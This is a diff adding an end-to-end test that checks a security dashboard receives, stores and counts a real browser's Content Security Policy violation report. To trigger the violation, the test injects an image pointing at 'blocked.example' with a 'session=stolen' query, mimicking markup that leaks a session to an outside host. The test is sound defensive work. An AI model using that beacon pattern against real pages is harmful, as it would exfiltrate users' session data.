@@ -3,6 +3,8 @@
 // opens /admin/security over a month of seeded security events, sees the SVG charts and the
 // numbers, filters the events with the form, and nothing on the way logs an error (a CSP
 // violation would). Screenshots: test-artifacts/e2e/dashboard.png and dashboard-filtered.png.
+// Then a real CSP violation, in a second browser with scripts on, reaches the report endpoint
+// the policy names, is stored without its query string, and shows on the dashboard.
 
 import assert from 'node:assert/strict';
 import { Writable } from 'node:stream';
@@ -110,4 +112,43 @@ describe('security dashboard in Chromium', () => {
 
     assert.deepEqual(browser.consoleErrors, [], 'no console error: no CSP violation, nothing failed to load');
   });
+
+  it("receives a real browser's CSP violation report and counts it on the dashboard", async () => {
+    const origin = harness.server.config.publicOrigin;
+    const reportsShown = async () => browser.page.locator('.stat', { hasText: 'CSP reports' }).locator('.stat-value').innerText();
+    await browser.page.goto(`${origin}/admin/security`);
+    assert.equal(await reportsShown(), '0');
+
+    const scripted = await launchBrowser({ javaScriptDisabled: false });
+    try {
+      await scripted.page.goto(`${origin}/sign-in`);
+      // An image from elsewhere, as injected markup would load it: img-src 'self' blocks it.
+      await scripted.page.evaluate(() => {
+        const image = document.createElement('img');
+        image.src = 'https://blocked.example/pixel.png?session=stolen';
+        document.body.append(image);
+      });
+      assert.ok(scripted.consoleErrors.some((message) => /violates the following Content Security Policy directive: "img-src 'self'"/.test(message)));
+      const [report, ...others] = await waitForReports(harness);
+      assert.ok(report !== undefined, 'the browser sent a report within 90 seconds');
+      assert.deepEqual(others, [], 'one violation, one report');
+      assert.equal(report.directive, 'img-src');
+      assert.equal(report.document_url, `${origin}/sign-in`);
+      assert.equal(report.blocked_url, 'https://blocked.example/pixel.png', 'stored without its query string');
+    } finally {
+      await scripted.close();
+    }
+    await browser.page.reload();
+    assert.equal(await reportsShown(), '1');
+  });
 });
+
+/** The stored CSP reports, once there is one (browsers send them in the background; bounded wait). */
+async function waitForReports(harness: AccountsHarness) {
+  const deadline = Date.now() + 90_000;
+  for (;;) {
+    const rows = await harness.server.server.db.selectFrom('csp_reports').selectAll().execute();
+    if (rows.length > 0 || Date.now() > deadline) return rows;
+    await new Promise((resolve) => setTimeout(resolve, 250));
+  }
+}
